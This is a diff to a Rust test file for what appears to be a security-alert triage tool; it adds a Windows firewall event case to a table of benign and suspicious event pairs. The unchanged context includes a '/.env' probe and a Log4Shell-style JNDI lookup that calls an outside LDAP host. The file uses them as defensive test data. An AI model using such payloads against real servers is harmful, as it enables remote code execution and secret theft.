@@ -172,13 +172,14 @@ const SCRIPT: &str = "data.win.eventdata.scriptBlockText";
 const EXPLORER: &str = r"C:\Windows\explorer.exe";
 const RUNDLL: &str = r"C:\Windows\System32\rundll32.exe";
 const PANEL: &str = r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL C:\Windows\System32\desk.cpl";
+const APPLICATION: &str = "data.win.eventdata.application";
 const BROWSER: &str = r"C:\Program Files\Mozilla Firefox\firefox.exe";
 
 #[test]
 #[expect(clippy::too_many_lines, reason = "a table of pairs")]
 fn everyday_work_is_closed_and_its_twin_that_is_none_stays_open() {
     type Fields<'a> = &'a [(&'a str, &'a str)];
-    let cases: [(&str, Fields<'_>, Fields<'_>); 17] = [
+    let cases: [(&str, Fields<'_>, Fields<'_>); 18] = [
         (
             "windows sysmon",
             &[(EVENT, "1"), (COMMAND, PANEL), (IMAGE, RUNDLL), (PARENT, EXPLORER)],
@@ -367,6 +368,18 @@ fn everyday_work_is_closed_and_its_twin_that_is_none_stays_open() {
             &[
                 ("data.url", "/.env"),
                 ("data.url", "/robots.txt?x=${jndi:ldap://203.0.113.9/a}"),
+            ],
+        ),
+        (
+            "windows",
+            &[
+                (EVENT, "5157"),
+                (APPLICATION, r"\device\harddiskvolume3\windows\system32\svchost.exe"),
+                ("data.win.eventdata.destPort", "5355"),
+            ],
+            &[
+                ("data.win.eventdata.destPort", "445"),
+                (APPLICATION, r"\device\harddiskvolume3\windows\system32\services.exe"),
             ],
         ),
         (
